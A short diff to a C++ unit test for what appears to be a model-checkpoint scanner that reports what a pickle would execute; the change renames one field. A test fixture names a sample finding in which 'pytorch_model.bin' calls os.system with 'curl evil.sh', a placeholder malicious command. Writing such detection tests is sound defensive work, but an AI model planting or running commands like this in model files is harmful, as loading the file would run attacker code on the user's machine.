@@ -70,7 +70,7 @@ TEST(Description, Lists_what_a_pickle_would_execute_and_what_was_skipped) {
   Description d = given();
   d.named.findings = {"pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command"};
   d.tied = {{"lm_head.weight", "wte.weight"}};
-  d.left = {{"optimizer.pt", "optimizer state"}};
+  d.skipped_files = {{"optimizer.pt", "optimizer state"}};
   d.unused = {"epoch (int 3)"};
   const std::string text = to_markdown(d);
   EXPECT_THAT(text, HasSubstr("- `pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command`\n"));
